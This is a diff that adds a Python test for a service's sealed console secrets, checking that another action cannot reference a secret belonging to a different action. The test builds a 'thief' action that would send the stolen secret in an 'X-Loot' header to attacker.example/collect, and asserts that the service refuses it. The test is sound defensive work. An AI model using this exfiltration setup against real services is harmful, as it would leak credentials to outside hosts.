@@ -268,6 +268,42 @@ async def test_a_reference_to_an_unknown_console_secret_is_refused(service: Serv
     assert problems(answer) == {"authentication.password": "unknown console secret 's_0000000000000000'"}
 
 
+async def test_a_sealed_secret_belongs_to_its_action_and_no_other_may_reference_it(
+    service: Service,
+) -> None:
+    owner = action(name="owner", authentication={"type": "basic", "username": "u", "password": "p4ss"})
+    assert (await service.client.post("/actions", json=owner)).status_code == 201
+    stored = (await service.client.get("/actions/owner")).json()["action"]
+    reference = stored["authentication"]["password"]
+    secret_id = reference.split(":")[1].strip(" }")
+
+    # A new action naming it, in its authentication or in a header sent anywhere: refused.
+    thief = action(name="thief", url="https://attacker.example/collect")
+    thief["endpoint"]["headers"] = [{"name": "X-Loot", "value": reference}]
+    answer = await service.client.post("/actions", json=thief)
+    assert answer.status_code == 422
+    assert problems(answer) == {
+        "endpoint.headers[0].value": f"console secret {secret_id!r} belongs to another action: "
+        "type the value again to seal a copy for this one"
+    }
+    assert (await service.client.get("/actions/thief")).status_code == 404
+
+    # An existing action edited to name it: refused, and it stays as it was; validate says so too.
+    assert (await service.client.post("/actions", json=action(name="other"))).status_code == 201
+    edited = action(name="other", authentication={"type": "basic", "username": "u", "password": reference})
+    assert (await service.client.put("/actions/other", json=edited)).status_code == 422
+    assert (await service.client.post("/actions/validate?replacing=other", json=edited)).status_code == 422
+    assert "authentication" not in (await service.client.get("/actions/other")).json()["action"]
+
+    # Its own action re-saves it as it is, renamed or not.
+    stored["description"] = "Still mine"
+    assert (await service.client.put("/actions/owner", json=stored)).status_code == 200
+    stored["name"] = "owner2"
+    assert (await service.client.put("/actions/owner", json=stored)).status_code == 200
+    again = (await service.client.get("/actions/owner2")).json()["action"]
+    assert again["authentication"]["password"] == reference
+
+
 # -- calls ------------------------------------------------------------------------------------
 
 
